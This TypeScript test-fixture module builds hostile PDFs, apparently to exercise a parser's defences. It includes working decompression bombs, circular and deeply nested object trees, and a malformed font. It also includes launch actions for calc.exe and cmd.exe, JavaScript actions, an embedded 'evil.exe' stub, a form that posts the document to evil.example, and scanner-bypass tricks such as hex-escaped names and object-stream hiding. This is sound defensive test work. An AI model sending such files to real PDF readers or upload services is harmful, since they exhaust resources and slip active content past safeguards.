// Hand-built hostile PDFs as byte strings: each one is a few objects with a correct xref table (unless
// the case is a broken xref), so the parser gets past the envelope and meets the hostile part.
import zlib from 'node:zlib';

/** One indirect object: its dictionary / value text and, optionally, stream bytes. */
export interface PdfObject {
  body: string;
  stream?: Uint8Array;
}

const enc = (s: string) => Buffer.from(s, 'latin1');

/** Joins objects 1..n into a PDF with a correct xref table; object 1 must be the catalog. */
export function buildPdf(objects: PdfObject[], opts: { trailerExtra?: string; breakXref?: boolean; padding?: Buffer } = {}): Uint8Array {
  const parts: Buffer<ArrayBufferLike>[] = [enc('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n')];
  let offset = parts[0].length;
  const offsets: number[] = [];
  objects.forEach((o, i) => {
    offsets.push(offset);
    const chunks: Buffer<ArrayBufferLike>[] = [enc(`${i + 1} 0 obj\n${o.body}\n`)];
    if (o.stream) chunks.push(enc('stream\n'), Buffer.from(o.stream), enc('\nendstream\n'));
    chunks.push(enc('endobj\n'));
    if (i === objects.length - 1 && opts.padding) chunks.push(opts.padding);
    for (const c of chunks) {
      parts.push(c);
      offset += c.length;
    }
  });
  const xrefAt = offset;
  let xref = `xref\n0 ${objects.length + 1}\n0000000000 65535 f \n`;
  for (const o of offsets) xref += `${String(opts.breakXref ? o + 7 : o).padStart(10, '0')} 00000 n \n`;
  if (opts.breakXref) xref = xref.replace('xref', 'xrfe').replace(/ n \n/g, ' q \n');
  parts.push(
    enc(
      `${xref}trailer\n<< /Size ${objects.length + 1} /Root 1 0 R ${opts.trailerExtra ?? ''}>>\nstartxref\n${opts.breakXref ? xrefAt + 13 : xrefAt}\n%%EOF\n`,
    ),
  );
  return new Uint8Array(Buffer.concat(parts));
}

const content = (text: string) => enc(`BT /F1 10 Tf 40 780 Td (${text}) Tj ET`);

/** Catalog, pages, one page with Helvetica text: the skeleton the hostile variants extend. */
function basic(extraCatalog = '', pageExtra = '', text = 'Hello'): PdfObject[] {
  const c = content(text);
  return [
    { body: `<< /Type /Catalog /Pages 2 0 R ${extraCatalog}>>` },
    { body: '<< /Type /Pages /Kids [3 0 R] /Count 1 >>' },
    { body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R ${pageExtra}>>` },
    { body: `<< /Length ${c.length} >>`, stream: c },
    { body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' },
  ];
}

export const plainPdf = (text = 'Hello') => buildPdf(basic('', '', text));

export const brokenXrefPdf = () => buildPdf(basic(), { breakXref: true });

/** Pages whose Kids point back at themselves: a tree walk that does not track visits never ends. */
export function circularPdf(): Uint8Array {
  const o = basic();
  o[1] = { body: '<< /Type /Pages /Kids [2 0 R 3 0 R] /Count 2 /Parent 2 0 R >>' };
  o[2] = { body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources 6 0 R >>' };
  o.push({ body: '<< /Font << /F1 5 0 R >> /Self 6 0 R /Loop 7 0 R >>' }, { body: '<< /Next 6 0 R /Loop 7 0 R >>' });
  return buildPdf(o);
}

/** An array nested `depth` deep (and a dictionary chain) in the page's resources and contents. */
export function deeplyNestedPdf(depth = 100_000): Uint8Array {
  const o = basic();
  o.push({ body: `${'['.repeat(depth)}${']'.repeat(depth)}` });
  o.push({ body: `${'<< /A '.repeat(depth / 10)}1${' >>'.repeat(depth / 10)}` });
  const c = enc(`${'['.repeat(depth)} BT /F1 10 Tf 40 780 Td (x) Tj ET`);
  o[3] = { body: `<< /Length ${c.length} >>`, stream: c };
  o[2] = { body: `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> /X 6 0 R /Y 7 0 R >> /Contents 4 0 R >>` };
  return buildPdf(o);
}

/** A page tree that declares `count` pages with a single kid. */
export function hugeCountPdf(count = 2_000_000_000): Uint8Array {
  const o = basic();
  o[1] = { body: `<< /Type /Pages /Kids [3 0 R] /Count ${count} >>` };
  return buildPdf(o);
}

/** Many real pages (the engine's page limit is 2,000): cheap empty pages sharing one content stream. */
export function manyPagesPdf(pages: number): Uint8Array {
  const c = content('x');
  const kids = Array.from({ length: pages }, (_, i) => `${i + 5} 0 R`).join(' ');
  const objs: PdfObject[] = [
    { body: '<< /Type /Catalog /Pages 2 0 R >>' },
    { body: `<< /Type /Pages /Kids [${kids}] /Count ${pages} >>` },
    { body: `<< /Length ${c.length} >>`, stream: c },
    { body: '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>' },
  ];
  for (let i = 0; i < pages; i++)
    objs.push({ body: '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> /Contents 3 0 R >>' });
  return buildPdf(objs);
}

/** A content stream that inflates from about 1 MB to `inflatedMb` MB of spaces (built streaming, never held inflated). */
export async function decompressionBombPdf(inflatedMb = 1024): Promise<Uint8Array> {
  const chunk = Buffer.alloc(16 * 1024 * 1024, 0x20);
  const z = zlib.createDeflate({ level: 9 });
  const out: Buffer[] = [];
  z.on('data', (d: Buffer) => out.push(d));
  const done = new Promise((resolve) => z.on('end', resolve));
  z.write(enc('BT /F1 10 Tf 40 780 Td (x) Tj ET\n'));
  for (let i = 0; i < inflatedMb / 16; i++) if (!z.write(chunk)) await new Promise((r) => z.once('drain', r));
  z.end();
  await done;
  const packed = Buffer.concat(out);
  const o = basic();
  o[3] = { body: `<< /Length ${packed.length} /Filter /FlateDecode >>`, stream: packed };
  return buildPdf(o);
}

/** A font program that is garbage under a valid-looking FontFile2 (TrueType) entry. */
export function badFontPdf(): Uint8Array {
  const o = basic();
  const junk = Buffer.alloc(4096);
  for (let i = 0; i < junk.length; i++) junk[i] = (i * 131 + 7) & 0xff;
  junk.writeUInt32BE(0x00010000, 0); // TrueType version, then absurd table counts
  junk.writeUInt16BE(0xffff, 4);
  o[4] = { body: '<< /Type /Font /Subtype /TrueType /BaseFont /Evil /FirstChar 0 /LastChar 255 /Widths 6 0 R /FontDescriptor 7 0 R >>' };
  o.push({ body: `[${Array(256).fill(500).join(' ')}]` });
  o.push({
    body: '<< /Type /FontDescriptor /FontName /Evil /Flags 32 /FontBBox [0 0 1000 1000] /ItalicAngle 0 /Ascent 800 /Descent -200 /CapHeight 700 /StemV 80 /FontFile2 8 0 R >>',
  });
  o.push({ body: `<< /Length ${junk.length} /Length1 ${junk.length} >>`, stream: junk });
  return buildPdf(o);
}

export const javascriptPdf = () => buildPdf([...basic('/OpenAction 6 0 R'), { body: '<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>' }]);

export const launchPdf = () => buildPdf([...basic('/OpenAction 6 0 R'), { body: '<< /Type /Action /S /Launch /F (calc.exe) >>' }]);

/** A launch action hidden in a link annotation (not in the catalog). */
export const launchAnnotPdf = () =>
  buildPdf([...basic('', '/Annots [6 0 R]'), { body: '<< /Type /Annot /Subtype /Link /Rect [0 0 100 100] /A << /S /Launch /F (cmd.exe) >> >>' }]);

export function embeddedFilePdf(): Uint8Array {
  const payload = enc('MZ this would be an executable');
  return buildPdf([
    ...basic('/Names << /EmbeddedFiles 6 0 R >>'),
    { body: '<< /Names [(evil.exe) 7 0 R] >>' },
    { body: '<< /Type /Filespec /F (evil.exe) /EF << /F 8 0 R >> >>' },
    { body: `<< /Type /EmbeddedFile /Length ${payload.length} >>`, stream: payload },
  ]);
}

/** A valid PDF grown to `totalBytes` by a comment-free uncompressed stream no page uses. */
export function paddedPdf(totalBytes: number, text = 'Hello'): Uint8Array {
  const base = buildPdf(basic('', '', text));
  const fill = Math.max(0, totalBytes - base.length - 80);
  const o = basic('', '', text);
  o.push({ body: `<< /Length ${fill} >>`, stream: Buffer.alloc(fill, 0x20) });
  return buildPdf(o);
}

/**
 * A real statement PDF grown to `totalBytes` by an incremental update that adds one unused,
 * uncompressed stream: still a valid PDF (new xref section with /Prev), read exactly as before.
 */
export function padStatementPdf(pdf: Uint8Array, totalBytes: number): Uint8Array {
  const tail = Buffer.from(pdf.subarray(Math.max(0, pdf.length - 2048))).toString('latin1');
  const size = Number(/\/Size (\d+)/.exec(tail)?.[1]);
  const root = /\/Root (\d+ \d+ R)/.exec(tail)?.[1];
  const prev = Number(/startxref\s+(\d+)/.exec(tail)?.[1]);
  if (!size || !root || !prev) throw new Error('padStatementPdf: not a classic-xref PDF');
  const build = (fill: number) => {
    const objStart = pdf.length + 1;
    const obj = Buffer.concat([enc(`\n${size} 0 obj\n<< /Length ${fill} >>\nstream\n`), Buffer.alloc(fill, 0x20), enc('\nendstream\nendobj\n')]);
    const xrefAt = pdf.length + obj.length;
    const xref = enc(
      `xref\n0 1\n0000000000 65535 f \n${size} 1\n${String(objStart).padStart(10, '0')} 00000 n \ntrailer\n<< /Size ${size + 1} /Root ${root} /Prev ${prev} >>\nstartxref\n${xrefAt}\n%%EOF\n`,
    );
    return Buffer.concat([Buffer.from(pdf), obj, xref]);
  };
  // Two passes: the digits of the lengths barely move, so the second lands on the exact size.
  const first = Math.max(0, totalBytes - pdf.length - 300);
  return new Uint8Array(build(Math.max(0, first + totalBytes - build(first).length)));
}

// ---- Hostile input II (issue 15): guard bypasses and active content the first scan missed.

/** Adler-32 of `prefix` followed by `spaces` space characters (computed, never built: `spaces` is gigabytes). */
function adlerWithSpaces(prefix: Buffer, spaces: number): number {
  const MOD = 65521n;
  let a = 1n;
  let b = 0n;
  for (const c of prefix) {
    a = (a + BigInt(c)) % MOD;
    b = (b + a) % MOD;
  }
  const n = BigInt(spaces);
  b = (b + n * a + 32n * ((n * (n + 1n)) / 2n)) % MOD;
  a = (a + 32n * n) % MOD;
  return Number((b << 16n) | a);
}

/**
 * A zlib stream of `text` followed by `inflatedMb` MB of spaces, about 1/1000 of that size: one 16 MB
 * block of spaces is compressed once, ended with a full flush (so it refers to nothing before it) and
 * repeated. A 2 GB payload is built in a tenth of a second and about 2 MB long.
 */
export function spaceBomb(inflatedMb: number, text = 'BT /F1 10 Tf 40 780 Td (x) Tj ET\n'): Buffer {
  const head = Buffer.from(text, 'latin1');
  const full = { finishFlush: zlib.constants.Z_FULL_FLUSH };
  const first = zlib.deflateRawSync(head, full);
  const block = zlib.deflateRawSync(Buffer.alloc(16 << 20, 0x20), { ...full, level: 9 });
  const blocks = Math.ceil(inflatedMb / 16);
  const trailer = Buffer.alloc(4);
  trailer.writeUInt32BE(adlerWithSpaces(head, blocks * (16 << 20)) >>> 0);
  return Buffer.concat([Buffer.from([0x78, 0xda]), first, ...Array<Buffer>(blocks).fill(block), Buffer.from([0x03, 0x00]), trailer]);
}

/**
 * The file: a one-page PDF of about 2 MB whose content stream says `/Subtype /Image` (the old
 * guard skipped image streams) and inflates to `inflatedMb` MB. `filter` is the /Filter value as
 * written, e.g. `/F#6cateDecode` (a hex-escaped name) or `[/FlateDecode]`.
 */
export function imageFlaggedBombPdf(opts: { inflatedMb?: number; filter?: string; subtype?: string } = {}): Uint8Array {
  const packed = spaceBomb(opts.inflatedMb ?? 2048);
  const o = basic();
  o[3] = { body: `<< /Length ${packed.length} /Filter ${opts.filter ?? '/FlateDecode'} ${opts.subtype ?? '/Subtype /Image'} >>`, stream: packed };
  return buildPdf(o);
}

/** A content stream deflated twice (`[/FlateDecode /FlateDecode]`): the outer layer is small, the inner one the bomb. */
export function doubleFlateBombPdf(inflatedMb = 1024): Uint8Array {
  const packed = zlib.deflateSync(spaceBomb(inflatedMb), { level: 9 });
  const o = basic();
  o[3] = { body: `<< /Length ${packed.length} /Filter [/FlateDecode /Fl] >>`, stream: packed };
  return buildPdf(o);
}

/** The catalog opens with a launch action whose type name is hex-escaped (`/L#61unch`). */
export const escapedLaunchPdf = () => buildPdf(basic('/OpenAction << /S /L#61unch /F (calc.exe) >>'));

/** A page-level additional action (`/AA`) running JavaScript kept in a stream, its type name hex-escaped. */
export function pageAaJavascriptPdf(): Uint8Array {
  const js = enc('app.alert(1)');
  return buildPdf([...basic('', '/AA << /O 6 0 R >>'), { body: '<< /S /J#61vaScript /JS 7 0 R >>' }, { body: `<< /Length ${js.length} >>`, stream: js }]);
}

/** A link to another file (`/GoToR`) opened with the document. */
export const goToRPdf = () => buildPdf(basic('/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\share\\\\x.pdf) /D [0 /Fit] >>'));

/** A form action that posts the document somewhere (`/SubmitForm`). */
export const submitFormPdf = () => buildPdf(basic('/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://evil.example/collect) >> >>'));

/**
 * A PDF 1.5 file with a cross-reference stream whose catalog's /OpenAction is object 6, a launch
 * action stored compressed inside an object stream (object 7): invisible to a scan of the raw bytes.
 */
export function launchInObjectStreamPdf(): Uint8Array {
  const c = content('Hello');
  const parts: Buffer[] = [enc('%PDF-1.5\n%\xe2\xe3\xcf\xd3\n')];
  const offsets: number[] = [];
  let at = parts[0].length;
  const add = (body: string, stream?: Buffer) => {
    offsets.push(at);
    const chunk = Buffer.concat([
      enc(`${offsets.length} 0 obj\n${body}\n`),
      ...(stream ? [enc('stream\n'), stream, enc('\nendstream\n')] : []),
      enc('endobj\n'),
    ]);
    parts.push(chunk);
    at += chunk.length;
  };
  add('<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>');
  add('<< /Type /Pages /Kids [3 0 R] /Count 1 >>');
  add('<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 5 0 R >> >> /Contents 4 0 R >>');
  add(`<< /Length ${c.length} >>`, c);
  add('<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>');
  // Object 6 lives in the object stream (object 7).
  const inner = '<< /Type /Action /S /Launch /F (cmd.exe) /P (/c calc) >>';
  const header = '6 0 ';
  const objstm = zlib.deflateSync(enc(header + inner));
  offsets.push(-1); // 6: compressed
  add(`<< /Type /ObjStm /N 1 /First ${header.length} /Length ${objstm.length} /Filter /FlateDecode >>`, objstm);
  // Cross-reference stream (object 8): type 1 (offset) or type 2 (in object stream 7, index 0) rows.
  const xrefAt = at;
  const rows: Buffer[] = [Buffer.from([0, 0, 0, 0, 0, 0xff])];
  offsets.forEach((o, i) => {
    const r = Buffer.alloc(6);
    if (i === 5) {
      r[0] = 2;
      r.writeUInt32BE(7, 1);
      r[5] = 0;
    } else {
      r[0] = 1;
      r.writeUInt32BE(o, 1);
    }
    rows.push(r);
  });
  const xrow = Buffer.alloc(6);
  xrow[0] = 1;
  xrow.writeUInt32BE(xrefAt, 1);
  rows.push(xrow);
  const xdata = zlib.deflateSync(Buffer.concat(rows));
  parts.push(
    enc(`8 0 obj\n<< /Type /XRef /Size 9 /W [1 4 1] /Root 1 0 R /Length ${xdata.length} /Filter /FlateDecode >>\nstream\n`),
    xdata,
    enc(`\nendstream\nendobj\nstartxref\n${xrefAt}\n%%EOF\n`),
  );
  return new Uint8Array(Buffer.concat(parts));
}
